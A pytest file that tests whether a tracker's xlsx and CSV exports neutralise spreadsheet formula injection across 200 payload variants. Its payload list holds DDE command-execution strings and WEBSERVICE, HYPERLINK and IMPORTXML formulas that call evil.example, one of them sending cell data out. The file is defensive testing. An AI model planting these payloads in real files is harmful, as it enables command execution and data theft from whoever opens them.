"""Nothing that leaves the house runs in a spreadsheet (D6)."""

from __future__ import annotations

import csv
import shutil
import subprocess
from datetime import UTC, datetime
from io import BytesIO, StringIO
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from tests.conftest import not_proven
from tracker.exports.csvfile import csv_bytes
from tracker.exports.sheet import Column, Kind, Sheet
from tracker.exports.xlsx import xlsx_bytes

LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u3000=",
         "\u200b=", "\u2028=", "\x0b=", "\ufeff=", "'=", '"=', ";=")  # fmt: skip
BODIES = (
    "1+1", 'cmd|"/c calc"!A0', 'HYPERLINK("http://evil.example","x")', "SUM(A1:A9)",
    'WEBSERVICE("http://evil.example/"&A1)', 'IMPORTXML("http://evil.example","//a")',
    "DDE(\"cmd\";\"/c calc\")", "2+5+cmd|'/c calc'!A0", "A1", "{1;2}",
)  # fmt: skip
PAYLOADS = [lead + body for lead in LEADS for body in BODIES]
COLUMNS = (Column("文字"), Column("经过", Kind.LONG), Column("失分", Kind.POINTS))
MADE = datetime(2021, 10, 18, tzinfo=UTC)


def sheet() -> Sheet:
    rows = tuple((one, one, None) for one in PAYLOADS)
    return Sheet("台账", COLUMNS, rows, ZoneInfo("Asia/Shanghai"))


def test_two_hundred_payloads_are_text_in_a_workbook_and_stay_what_they_are() -> None:
    assert len(set(PAYLOADS)) == 200
    [page] = openpyxl.load_workbook(BytesIO(xlsx_bytes([sheet()], made_at=MADE))).worksheets
    cells = [cell for row in page.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.hyperlink for cell in cells} == {None}
    assert [unescape(str(cell.value)) for cell in cells if cell.column == 1] == PAYLOADS
    print(f"\nFIGURE {len(PAYLOADS)} payloads in {len(cells)} cells of a workbook: 0 formulas")


def test_two_hundred_payloads_begin_with_a_quote_in_a_csv() -> None:
    rows = list(csv.reader(StringIO(csv_bytes(sheet()).decode("utf-8-sig"), newline="")))[1:]
    assert [row[0].removeprefix("'") for row in rows] == [one.removeprefix("'") for one in PAYLOADS]
    dangerous = [row[0] for row in rows if not row[0].startswith(("'", '"', ";"))]
    assert dangerous == []
    print(f"\nFIGURE {len(rows)} payloads in a csv: {len(dangerous)} that a program would run")


@pytest.mark.full
def test_libreoffice_finds_no_formula_in_a_csv(tmp_path: Path) -> None:
    office = shutil.which("soffice")
    if office is None:
        not_proven("exports in LibreOffice", "no soffice on this machine")
        pytest.skip("no LibreOffice on this machine")
    (tmp_path / "a.csv").write_bytes(csv_bytes(sheet()))
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    subprocess.run(
        [office, "--headless", profile, "--convert-to", "xlsx", "--outdir", tmp_path / "out",
         tmp_path / "a.csv"], check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    [page] = openpyxl.load_workbook(tmp_path / "out" / "a.xlsx").worksheets
    assert {cell.data_type for row in page.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
